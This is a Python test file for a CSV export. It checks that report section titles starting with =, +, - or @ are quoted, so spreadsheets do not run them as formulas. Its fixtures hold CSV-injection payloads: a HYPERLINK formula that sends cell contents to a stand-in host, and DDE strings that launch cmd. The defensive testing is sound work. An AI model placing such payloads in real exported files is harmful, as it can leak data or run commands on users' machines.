"""CSV output never hands a spreadsheet a formula: a cell starting with =, +, -, @ is quoted."""

from __future__ import annotations

import csv
import io

import extract
from extract.compare import compare, spreadsheet_safe

REPORT = """**UBND TỈNH LÂM ĐỒNG**

**BÁO CÁO**
**Kết quả công tác {period}**

**I. KẾT QUẢ**

Đã giải quyết {n} hồ sơ, đạt {pct}%.

**II. {title}**

Nội dung.
"""
HOSTILE_TITLES = ['=HYPERLINK("http://example.invalid/?q="&A1,"xem")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                  "-2+3+cmd|' /C calc'!A0"]


def test_spreadsheet_safe_quotes_formulas_and_keeps_signed_numbers():
    assert [spreadsheet_safe(c) for c in ["=1+2", "+1", "-7.5", "@x", "\t=x", "Sở Y tế", "-", "1e-05"]] == [
        "'=1+2", "+1", "-7.5", "'@x", "'\t=x", "Sở Y tế", "'-", "1e-05"]


def test_compare_csv_of_reports_with_formula_section_titles_has_no_cell_a_spreadsheet_would_run():
    reports = [extract.parse(REPORT.format(period=period, n=n, pct=pct, title=title).encode(), "md",
                             name=f"{i}.md", timeout=None, memory_mb=None)
               for i, (period, n, pct, title) in enumerate([("6 tháng đầu năm 2021", 10, 90, "TỒN TẠI"),
                                                              *[("năm 2021", 20, 95, t) for t in HOSTILE_TITLES[:1]]])]
    reports += [extract.parse(REPORT.format(period=f"năm {2022 + i}", n=30 + i, pct=96, title=t).encode(), "md",
                              name=f"h{i}.md", timeout=None, memory_mb=None) for i, t in enumerate(HOSTILE_TITLES[1:])]
    cells = [cell for row in csv.reader(io.StringIO(compare(reports).to_csv())) for cell in row]

    written = [c for c in cells if any(t in c for t in HOSTILE_TITLES)]
    assert written, "the hostile titles reach the CSV"
    assert [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))] == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
